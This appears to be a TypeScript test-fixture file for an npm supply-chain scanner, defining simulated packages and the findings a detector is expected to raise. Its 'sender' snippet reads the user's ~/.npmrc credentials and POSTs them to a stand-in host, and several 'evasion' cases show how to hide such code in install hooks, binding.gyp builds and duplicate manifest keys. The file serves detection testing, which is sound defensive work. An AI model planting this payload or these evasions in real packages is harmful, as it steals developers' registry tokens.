import { armed, called, finding, fires, hooked, pkg, quiet, type Simulant, text } from './simulant.ts';

const stated = { phase: ['metadata', 'static'] } as const;
const newHook = finding('install.lifecycle-hook', 'medium', [['signal', 'process.exec']], {
  baseline: 'new',
  phase: ['metadata', 'static', 'install'],
});
const url = finding('dep.url-source', 'low', ['signal'], stated);
const confused = finding('manifest.confusion', 'high', ['signal'], stated);
const lost = finding('manifest.provenance-lost', 'medium', ['signal'], stated);
const mismatch = finding('manifest.identity-mismatch', 'medium', ['signal'], stated);
const attested = {
  dist: {
    attestations: {
      url: 'https://attest.acme.test/simulant',
      provenance: { predicateType: 'https://slsa.dev.test/provenance/v1' },
    },
  },
};

const sender = armed`
  const body = require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc');
  fetch('http://collect.simulant.invalid/n', { method: 'POST', body }).catch(() => {});
`;
const tokenLeft = (phase: 'install' | 'import') =>
  finding('exfil.canary-egress', 'critical', ['canary.read', 'net.http', 'canary.egress'], {
    phase: [phase],
    baseline: 'new',
  });

const plain = (name: string, version = '1.0.1', more: Record<string, unknown> = {}) =>
  pkg(name, { 'index.js': text`module.exports = (rows) => rows.map(String);` }, { version, ...more });

/** B38–B39: what a version changed, and what its manifest says against what the registry says. */
export const manifest: readonly Simulant[] = [
  {
    id: 'b38-new-hook-after-clean-version',
    row: 'B38',
    kind: 'positive',
    form: 'plain',
    packages: [hooked('b38-hook', sender)],
    previous: plain('b38-hook', '1.0.0'),
    expect: fires('malicious', [newHook, tokenLeft('install')]),
    note: 'The previous version had no scripts.',
  },
  {
    id: 'b38-new-effect-without-hook',
    row: 'B38',
    kind: 'positive',
    form: 'plain',
    packages: [pkg('b38-effect', { 'index.js': `${sender}module.exports = (rows) => rows.map(String);\n` })],
    previous: plain('b38-effect', '1.0.0'),
    expect: fires('malicious', [tokenLeft('import')]),
    note: 'Same manifest but for the latch, new code at import.',
  },
  {
    id: 'b38-evasion-same-hook-other-script',
    row: 'B38',
    kind: 'evasion',
    form: 'light',
    packages: [
      hooked(
        'b38-script',
        text`
          console.log('columns: ready');
          require('./lib/notice');
        `,
        { 'lib/notice.js': sender },
      ),
    ],
    previous: called('simulant-b38-script', '1.0.0', hooked('b38-script', text`console.log('columns: ready');`)),
    expect: fires('malicious', [tokenLeft('install')]),
    note: 'The manifest’s hook line is the same; what it loads is new.',
  },
  {
    id: 'b38-evasion-implicit-hook',
    row: 'B38',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg(
        'b38-implicit',
        {
          'binding.gyp': `{ "targets": [{ "target_name": "none", "type": "none", "variables": { "v": "<!(node gyp/value.js)" } }] }\n`,
          'gyp/value.js': `${sender}console.log('1');\n`,
        },
        { dependencies: { '@assay-simulant/latch': '1.0.0' } },
      ),
    ],
    previous: plain('b38-implicit', '1.0.0'),
    expect: fires('suspicious', [
      newHook,
      finding('install.build-effect', 'high', [['signal', 'process.exec']], { phase: ['static', 'install'] }),
    ]),
    note: 'No script is declared: a new binding.gyp makes npm run a build.',
  },
  {
    id: 'b38-neighbour-unchanged-hook',
    row: 'B38',
    kind: 'neighbour',
    form: 'plain',
    packages: [hooked('n38-hook', text`console.log('columns 1.0.1');`)],
    previous: called('simulant-n38-hook', '1.0.0', hooked('n38-hook', text`console.log('columns 1.0.0');`)),
    expect: quiet(['dep.', 'manifest.', 'exec.', 'cred.', 'exfil.'], { allowed: { 'install.lifecycle-hook': 'info' } }),
    note: 'Both versions have the hook; only its text moved on.',
  },
  {
    id: 'b38-neighbour-no-hook',
    row: 'B38',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      plain('n38-none', '1.1.0', { scripts: { test: 'node --test', prepublishOnly: 'npm test', build: 'tsc -b' } }),
    ],
    previous: plain('n38-none', '1.0.0'),
    expect: quiet(['install.lifecycle-hook', 'dep.', 'manifest.']),
    note: 'New scripts, none of which an installer runs.',
  },
  {
    id: 'b39-url-dependency',
    row: 'B39',
    kind: 'positive',
    form: 'plain',
    packages: [
      plain('b39-url', '1.0.1', {
        optionalDependencies: { 'simulant-b39-remote': 'http://files.simulant.invalid/remote-1.0.0.tgz' },
      }),
    ],
    expect: { findings: [url], never: [], levelAtMost: 'inconclusive' },
    note: 'Optional, so that the install goes on without it.',
  },
  {
    id: 'b39-evasion-git-dependency-with-prefix',
    row: 'B39',
    kind: 'evasion',
    form: 'light',
    packages: [
      plain('b39-git', '1.0.1', {
        optionalDependencies: { 'simulant-b39-git': 'git+http://git.simulant.invalid/me/columns.git#semver:^1.0.0' },
        overrides: { 'simulant-b39-git': '$simulant-b39-git' },
      }),
    ],
    expect: { findings: [url], never: [], levelAtMost: 'inconclusive' },
    note: 'A git address dressed with a version range, and an override that repeats it.',
  },
  {
    id: 'b39-neighbour-alias',
    row: 'B39',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n39-alias',
        { 'index.js': text`module.exports = require('pad-alias').pad;` },
        {
          dependencies: { 'pad-alias': 'npm:simulant-n39-pad@^1.0.0' },
          homepage: 'https://acme.test/columns',
          bugs: { url: 'https://acme.test/bugs' },
        },
      ),
      pkg('n39-pad', { 'index.js': text`exports.pad = (value, width) => String(value).padEnd(width);` }),
    ],
    expect: quiet(['dep.url-source', 'manifest.']),
    note: 'An alias stays in the registry; addresses elsewhere in the manifest are none of a dependency.',
  },
  {
    id: 'b39-registry-hides-the-hook',
    row: 'B39',
    kind: 'positive',
    form: 'plain',
    packages: [
      { ...hooked('b39-hidden', text`console.log('simulant marker');`), packument: { scripts: {}, dependencies: {} } },
    ],
    expect: fires('suspicious', [confused]),
    note: 'The registry’s document shows no scripts; the tarball’s manifest has one.',
  },
  {
    id: 'b39-evasion-duplicate-member',
    row: 'B39',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg(
        'b39-duplicate',
        {
          'package.json': text`
            { "name": "simulant-b39-duplicate", "version": "1.0.1", "main": "index.js",
              "scripts": { "test": "node --test" },
              "scripts": { "postinstall": "echo simulant marker" } }
          `,
        },
        { scripts: { test: 'node --test' } },
      ),
    ],
    expect: fires('suspicious', [confused]),
    note: 'Two members of one name: readers that keep the first see no hook, npm keeps the last.',
  },
  {
    id: 'b39-evasion-other-bin',
    row: 'B39',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b39-bin',
        {
          'cli.js': "#!/usr/bin/env node\nconsole.log('simulant marker');\n",
          'safe.js': "#!/usr/bin/env node\nconsole.log('columns');\n",
        },
        { bin: { columns: 'cli.js' } },
        { bin: { columns: 'safe.js' } },
      ),
    ],
    expect: fires('suspicious', [confused]),
    note: 'Only the command’s file differs.',
  },
  {
    id: 'b39-neighbour-registry-additions',
    row: 'B39',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n39-normal',
        { 'cli.js': "#!/usr/bin/env node\nconsole.log('columns');\n" },
        { bin: './cli.js', repository: 'https://code.acme.test/columns', scripts: { test: 'node --test' } },
        {
          bin: { 'simulant-n39-normal': 'cli.js' },
          repository: { type: 'git', url: 'git+https://code.acme.test/columns.git' },
          gitHead: '0123456789abcdef0123456789abcdef01234567',
          readmeFilename: 'README.md',
          _id: 'simulant-n39-normal@1.0.1',
          _npmUser: { name: 'simulant', email: 'simulant@acme.test' },
          maintainers: [{ name: 'simulant', email: 'simulant@acme.test' }],
          _hasShrinkwrap: false,
        },
      ),
    ],
    expect: quiet(['manifest.']),
    note: 'What publishing adds and normalises.',
  },
  {
    id: 'b39-neighbour-implied-build-script',
    row: 'B39',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n39-gyp',
        { 'binding.gyp': '{ "targets": [{ "target_name": "none", "type": "none" }] }\n' },
        {},
        { gypfile: true, scripts: { install: 'node-gyp rebuild' }, hasInstallScript: true },
      ),
    ],
    expect: quiet(['manifest.', 'install.build-effect'], {
      allowed: { 'install.lifecycle-hook': 'info', 'net.egress': 'low' },
      levelAtMost: 'inconclusive',
    }),
    note: 'Publishing writes the script that a binding.gyp implies into the registry’s document only.',
  },
  {
    id: 'b39-provenance-lost',
    row: 'B39',
    kind: 'positive',
    form: 'plain',
    packages: [plain('b39-provenance', '1.0.1')],
    previous: { ...plain('b39-provenance', '1.0.0'), packument: attested },
    expect: { findings: [lost], never: [] },
    note: 'The previous version was attested, this one is not.',
  },
  {
    id: 'b39-evasion-provenance-of-another',
    row: 'B39',
    kind: 'evasion',
    form: 'light',
    packages: [
      {
        ...plain('b39-empty', '1.0.1'),
        packument: { dist: { attestations: {} }, _npmUser: { name: 'somebody-else', email: 'x@simulant.invalid' } },
      },
    ],
    previous: { ...plain('b39-empty', '1.0.0'), packument: attested },
    expect: { findings: [lost], never: [] },
    note: 'The member is there and empty, and another account published.',
  },
  {
    id: 'b39-neighbour-never-attested',
    row: 'B39',
    kind: 'neighbour',
    form: 'plain',
    packages: [plain('n39-unattested', '1.0.1')],
    previous: plain('n39-unattested', '1.0.0'),
    expect: quiet(['manifest.']),
    note: 'Nothing was lost: neither version has provenance.',
  },
  {
    id: 'b39-archive-of-another-package',
    row: 'B39',
    kind: 'positive',
    form: 'plain',
    packages: [plain('b39-other', '1.0.1')],
    purl: 'pkg:npm/simulant-b39-claimed@1.0.1',
    expect: { findings: [mismatch], never: [] },
    note: 'Submitted as an archive under another name.',
  },
  {
    id: 'b39-evasion-archive-of-another-version',
    row: 'B39',
    kind: 'evasion',
    form: 'light',
    packages: [plain('b39-version', '1.0.1-rc.1')],
    purl: 'pkg:npm/simulant-b39-version@1.0.1',
    expect: { findings: [mismatch], never: [] },
    note: 'Name right, version almost.',
  },
  {
    id: 'b39-neighbour-archive-as-claimed',
    row: 'B39',
    kind: 'neighbour',
    form: 'plain',
    packages: [plain('@simulant/claimed', '1.0.1')],
    purl: 'pkg:npm/%40simulant/claimed@1.0.1',
    expect: quiet(['manifest.']),
    note: 'The scope is percent-encoded in the purl.',
  },
];
